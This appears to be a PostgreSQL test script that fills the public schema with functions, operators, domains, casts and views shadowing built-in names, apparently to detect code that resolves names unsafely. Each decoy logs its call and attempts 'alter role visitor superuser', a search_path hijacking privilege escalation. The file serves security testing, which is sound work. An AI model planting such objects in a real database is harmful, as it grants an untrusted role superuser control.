-- Something in `public` for every name that PostgreSQL has. Each says that it was called, and makes its owner a superuser if it can.
-- What is made here must not be called here.
set search_path = pg_catalog;
set check_function_bodies = off;
do $$
declare
  body constant text := $body$ begin
    insert into hostile.called values (%L);
    begin execute 'alter role visitor superuser'; exception when others then null; end;
    return null;
  end $body$;
  is_full constant bool := current_setting('hostile.size') = 'full';
  types constant text[] := case when is_full
    then '{text,name,jsonb,json,bytea,int4,int8,oid,float8,numeric,bool,timestamptz,date,tid,regclass,"char",text[],int8[]}'
    else '{text,name,jsonb,int8,oid}' end;
  each record;
  one text;
  other text;
begin
  -- Functions: of every name and number of arguments one that takes anything, and one for each type that fits better than that.
  for each in
    select distinct proname as name, least(pronargs, 4) as arguments from pg_proc where pronamespace = 'pg_catalog'::regnamespace and prokind in ('f', 'a')
  loop
    foreach one in array types || '{anyelement}'::text[] loop
      if each.arguments = 0 and one <> 'text' then continue; end if;
      -- Of the many names those with better fitting types only where this code may call them.
      if one not in ('text', 'jsonb') and (one <> 'anyelement' or not is_full) and each.name not in ('format', 'replace', 'encode', 'substr', 'sha256', 'convert_to',
        'array_to_string', 'count', 'sum', 'to_regclass', 'set_config', 'current_setting', 'json_agg', 'json_build_object', 'format_type',
        'pg_get_expr', 'pg_get_userbyid', 'pg_relation_size', 'pg_total_relation_size', 'pg_has_role', 'unnest', 'aclexplode', 'acldefault',
        'quote_ident', 'pg_try_advisory_lock', 'pg_advisory_unlock', 'pg_backend_pid', 'starts_with', 'now', 'pg_get_indexdef') then continue; end if;
      begin
        execute format('create function public.%I(%s) returns text language plpgsql as %L', each.name,
          array_to_string(array_fill(one, array[each.arguments]), ', '), format(body, each.name || ' of ' || one));
      exception when others then null; end;
    end loop;
  end loop;
  -- The first argument of its own type, the rest as anything is: the shape of the report.
  execute format('create or replace function public.format(text, variadic jsonb[]) returns text language plpgsql as %L', format(body, 'format'));

  -- Operators: of every name, between all these types.
  for each in select distinct oprname as name from pg_operator where oprnamespace = 'pg_catalog'::regnamespace and oprkind = 'b' loop
    foreach one in array types loop
      foreach other in array types loop
        if one <> other and each.name not in ('=', '<>', '<', '<=', '>', '>=', '||', '+', '-', '*', '/', '->', '->>', '&&', '@>', '~', '!~') and one <> other then continue; end if;
        begin
          execute format('create function public.%I(%s, %s) returns bool language plpgsql as %L', 'operator ' || each.name, one, other,
            format(body, 'operator ' || each.name || ' of ' || one || ', ' || other));
          execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.%I)', each.name, one, other, 'operator ' || each.name);
        exception when others then null; end;
      end loop;
    end loop;
  end loop;

  -- Types: a domain with a check for every name, so that a cast calls it. Casts: of types of their own to those of PostgreSQL and back.
  for each in select typname as name from pg_type where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typelem = 0 loop
    begin
      execute format('create function public.%I(text) returns bool language plpgsql as %L', 'check ' || each.name, format(body, 'type ' || each.name));
      execute format('create domain public.%I as text check (public.%I(value))', each.name, 'check ' || each.name);
    exception when others then null; end;
    begin
      execute format('create type public.%I as enum (''x'')', 'own ' || each.name);
      execute format('create function public.%I(public.%I) returns pg_catalog.%I language plpgsql as %L', 'cast ' || each.name, 'own ' || each.name, each.name, format(body, 'cast ' || each.name));
      execute format('create cast (public.%I as pg_catalog.%I) with function public.%I(public.%I) as implicit', 'own ' || each.name, each.name, 'cast ' || each.name, 'own ' || each.name);
    exception when others then null; end;
  end loop;

  -- Tables and views of every name, and those of this code. A view would call its function.
  for each in
    select relname as name from pg_class where relnamespace = 'pg_catalog'::regnamespace and relkind in ('r', 'v')
    union all select unnest('{events,homes,migrations,archived_partitions,archived_chunks,restored_tables}'::name[])
  loop
    begin
      execute format('create view public.%I as select public.now() as oid, public.now() as nspname, public.now() as relname', each.name);
    exception when others then null; end;
  end loop;
end $$;
reset check_function_bodies;
